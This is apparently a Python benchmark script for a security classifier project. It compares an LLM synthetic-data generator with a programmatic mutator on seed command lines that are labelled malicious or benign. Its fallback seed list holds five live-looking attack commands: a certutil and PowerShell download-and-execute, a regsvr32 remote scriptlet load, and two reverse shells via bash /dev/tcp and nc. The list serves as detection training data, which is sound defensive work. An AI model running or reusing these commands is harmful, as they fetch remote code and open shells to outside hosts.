"""Synthetic data, measured: the LLM generator (llama.cpp) next to the programmatic mutator on the same seeds.

Usage:  python benchmarks/synth_llm.py [--task cmdline] [--n-seeds 12] [--n-per-seed 3] [--judge BUNDLE]
                                      [--model qwen2.5-coder-0.5b] [--endpoint URL] [--out runs/synth-bench]

Seeds are command lines from the data folder's ``cmdline/commands.jsonl.gz`` (falls back to a built-in
list); the protected set is the next slice of the same shuffled file, so novelty is checked against data
the seeds are not part of. Prints generated / kept / rejected-by-filter and seconds per LLM call for both
generators and writes each run folder (report.md has samples of each kind). Needs the ``llm`` extra for
the in-process backend (or ``--endpoint``); the mutator column is always measured.
"""

from __future__ import annotations

import argparse
import gzip
import json
import random
import time
from pathlib import Path

from distilsec.data.example import Example
from distilsec.errors import DataError
from distilsec.methods.synthesize import LLMGenerator, make_mutator, synthesize
from distilsec.methods.synthesize.report import write_synth_run

FALLBACK = [
    ("certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe", "malicious"),
    ("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\"", "malicious"),
    ("regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll", "malicious"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "malicious"),
    ("nc -e /bin/sh 10.0.0.2 9001", "malicious"),
    ("git status", "benign"),
    ("tar czf backup.tar.gz documents", "benign"),
    ("grep -r TODO src", "benign"),
    ("du -sh /var/log", "benign"),
    ("docker ps -a", "benign"),
]


def _seeds(n: int, n_protected: int) -> tuple[list[Example], list[Example]]:
    from distilsec.data.paths import resolve_data_dir

    try:
        path = resolve_data_dir(required=("cmdline",)) / "cmdline" / "commands.jsonl.gz"
        with gzip.open(path, "rt", encoding="utf-8") as fh:
            rows = [json.loads(line) for _, line in zip(range(20000), fh, strict=False)]
    except (OSError, ValueError, DataError):
        rows = [{"text": t, "label": y} for t, y in FALLBACK]
    rows = [r for r in rows if r.get("text") and r.get("label") and len(r["text"]) < 300]
    random.Random(0).shuffle(rows)
    exs = [Example(r["text"], str(r["label"]), group=str(r.get("group", ""))) for r in rows]
    return exs[:n], exs[n : n + n_protected]


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--task", default="cmdline")
    ap.add_argument("--n-seeds", type=int, default=12)
    ap.add_argument("--n-per-seed", type=int, default=3)
    ap.add_argument("--n-protected", type=int, default=2000)
    ap.add_argument("--model", default="qwen2.5-coder-0.5b")
    ap.add_argument("--endpoint", default=None)
    ap.add_argument("--judge", default=None, help="bundle folder of a trained model (distilsec.bundle.load_model)")
    ap.add_argument("--threads", type=int, default=2)
    ap.add_argument("--out", default="runs/synth-bench")
    args = ap.parse_args()
    seeds, protected = _seeds(args.n_seeds, args.n_protected)
    judge = None
    if args.judge:
        from distilsec.bundle import load_model

        judge = load_model(args.judge)
    rows = []
    for name in ("mutate", "llm"):
        if name == "mutate":
            gen = make_mutator(args.task)
        else:
            gen = LLMGenerator(args.task, model=args.model, endpoint=args.endpoint, ledger=None, n_threads=args.threads)
        t0 = time.perf_counter()
        try:
            res = synthesize(gen, seeds, n_per_seed=args.n_per_seed, protected=protected, judge=judge, progress=True)
        except Exception as exc:  # e.g. the llm extra is missing: report it and keep the mutator's numbers
            print(f"{name}: not measured ({type(exc).__name__}: {exc})")
            continue
        finally:
            if hasattr(gen, "close") and hasattr(gen, "backend_"):
                gen.close()
        wall = time.perf_counter() - t0
        write_synth_run(Path(args.out) / name, res.examples, res.rejected, res.stats, seeds=res.seeds)
        llm = res.stats.get("llm", {})
        per_call = llm.get("call_seconds", 0) / llm["calls"] if llm.get("calls") else None
        rows.append((name, res.stats, wall, per_call))
    print(f"\n{'generator':<10} {'generated':>9} {'kept':>5} {'s/call':>7} {'wall s':>7}  rejected by filter")
    for name, s, wall, per_call in rows:
        pc = f"{per_call:.2f}" if per_call else "-"
        print(f"{name:<10} {s['generated']:>9} {s['kept']:>5} {pc:>7} {wall:>7.1f}  {s['rejected_by_filter']}")
    print(f"\nrun folders under {args.out}/ (report.md: samples of each kind)")


if __name__ == "__main__":
    main()
